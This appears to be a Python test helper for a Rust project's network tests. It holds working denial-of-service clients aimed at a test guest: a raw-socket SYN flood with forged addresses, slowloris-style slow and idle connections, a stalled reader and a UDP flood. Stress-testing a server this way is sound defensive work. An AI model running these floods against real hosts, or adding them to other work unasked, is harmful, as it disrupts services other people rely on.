# Hostile network clients for `cargo xtask test` (tools/xtask/src/nettest/hostile.rs).
# Run as `python3 -c SCRIPT MODE ARGS...`; each mode prints one `result key=value ...`
# line on stdout. Standard library only (python3 on Debian).
import os
import random
import resource
import selectors
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn_frame(src_mac, dst_mac, src_ip, dst_ip, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src_ip) + socket.inet_aton(dst_ip) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randrange(65536), 0, 64, 6, 0,
                     socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def synflood(iface, guest_ip, guest_mac, port, count):
    """`count` SYNs from spoofed addresses on the TAP's subnet (never answered: their
    MAC is nobody's, so the handshakes stay half-open)."""
    dst_mac = bytes.fromhex(guest_mac.replace(":", ""))
    prefix = guest_ip.rsplit(".", 1)[0]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    for i in range(count):
        src_mac = bytes([0x02, 0, 0, 0, 0x01, i % 256])
        src_ip = "%s.%d" % (prefix, 100 + i % 100)
        s.send(syn_frame(src_mac, dst_mac, src_ip, guest_ip, 40000 + i, port, random.randrange(1 << 32)))
    print("result sent=%d" % count)


def raise_nofile(n):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = max(soft, n)
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, max(hard, want)))


def idle(host, port, n_idle, n_slow, deadline_s):
    """`n_idle` connections that send nothing and `n_slow` that send a request head one
    byte a second; each waits until the server closes it (or the deadline)."""
    raise_nofile(n_idle + n_slow + 256)
    sel = selectors.DefaultSelector()
    head = b"GET / HTTP/1.1\r\nHost: slow\r\nX-Slow: " + b"a" * 64 + b"\r\n\r\n"
    socks = {}
    refused = 0
    for i in range(n_idle + n_slow):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        err = s.connect_ex((host, port))
        if err not in (0, 115):  # EINPROGRESS
            refused += 1
            s.close()
            continue
        socks[s] = {"slow": i >= n_idle, "sent": 0, "connected": False}
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)
    start = time.time()
    next_byte = start + 1.0
    connected = closed_by_server = reset = 0
    while socks and time.time() - start < deadline_s:
        for key, ev in sel.select(timeout=0.2):
            s = key.fileobj
            st = socks[s]
            if ev & selectors.EVENT_WRITE and not st["connected"]:
                err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    refused += 1
                    sel.unregister(s)
                    s.close()
                    del socks[s]
                    continue
                st["connected"] = True
                connected += 1
                sel.modify(s, selectors.EVENT_READ)
                continue
            if ev & selectors.EVENT_READ:
                try:
                    data = s.recv(65536)
                except OSError:
                    data = None
                if data:
                    continue  # an error response (408/400) before the close
                if data is None:
                    reset += 1
                else:
                    closed_by_server += 1
                sel.unregister(s)
                s.close()
                del socks[s]
        if time.time() >= next_byte:
            next_byte += 1.0
            for s, st in socks.items():
                if st["slow"] and st["connected"] and st["sent"] < len(head):
                    try:
                        s.send(head[st["sent"]:st["sent"] + 1])
                        st["sent"] += 1
                    except OSError:
                        pass
    left = len(socks)
    for s in list(socks):
        s.close()
    print("result connected=%d refused=%d closed_by_server=%d reset=%d left_open=%d seconds=%.1f"
          % (connected, refused, closed_by_server, reset, left, time.time() - start))


def stall(host, port, path, seconds):
    """Asks for `path` on a connection with a tiny receive buffer and never reads: the
    server's writes fill the window and stall. Holds the connection `seconds`."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    s.connect((host, port))
    s.sendall(b"GET " + path.encode() + b" HTTP/1.1\r\nHost: stall\r\n\r\n")
    print("ready", flush=True)
    time.sleep(seconds)
    s.close()
    print("result held=%.1f" % seconds)


def hold(host, port, n, seconds, slow=0):
    """Keeps `n` connections open that send nothing for `seconds` (one the server
    refuses, resets or closes is opened again), then closes them. The last `slow` of
    them send a request head instead, one byte a second."""
    raise_nofile(n + 256)
    head = b"GET / HTTP/1.1\r\nHost: slow\r\nX-Slow: " + b"a" * 64 + b"\r\n\r\n"
    sent = [0] * n
    next_byte = time.time() + 1.0

    def opened():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.connect_ex((host, port))
        return s

    socks = [opened() for _ in range(n)]
    reopened = 0
    start = time.time()
    while time.time() - start < seconds:
        time.sleep(0.2)
        for i, s in enumerate(socks):
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            gone = err not in (0, 115)
            if not gone:
                try:
                    gone = s.recv(1, socket.MSG_PEEK) == b""
                except BlockingIOError:
                    pass
                except OSError:
                    gone = True
            if gone:
                s.close()
                socks[i] = opened()
                sent[i] = 0
                reopened += 1
        if slow and time.time() >= next_byte:
            next_byte += 1.0
            for i in range(n - slow, n):
                try:
                    socks[i].send(head[sent[i] % len(head):sent[i] % len(head) + 1])
                    sent[i] += 1
                except OSError:
                    pass
    for s in socks:
        s.close()
    print("result opened=%d reopened=%d" % (len(socks), reopened))


def udpflood(host, port, seconds):
    """Sends 512-byte datagrams as fast as this process can for `seconds`."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    payload = os.urandom(512)
    sent = 0
    start = time.time()
    while time.time() - start < seconds:
        for _ in range(256):
            try:
                s.sendto(payload, (host, port))
                sent += 1
            except BlockingIOError:
                pass
            except OSError:
                pass
    print("result sent=%d seconds=%.1f" % (sent, time.time() - start))


def main():
    mode, args = sys.argv[1], sys.argv[2:]
    if mode == "synflood":
        synflood(args[0], args[1], args[2], int(args[3]), int(args[4]))
    elif mode == "idle":
        idle(args[0], int(args[1]), int(args[2]), int(args[3]), float(args[4]))
    elif mode == "stall":
        stall(args[0], int(args[1]), args[2], float(args[3]))
    elif mode == "hold":
        hold(args[0], int(args[1]), int(args[2]), float(args[3]), int(args[4]) if len(args) > 4 else 0)
    elif mode == "udpflood":
        udpflood(args[0], int(args[1]), float(args[2]))
    else:
        sys.exit("unknown mode " + mode)


main()
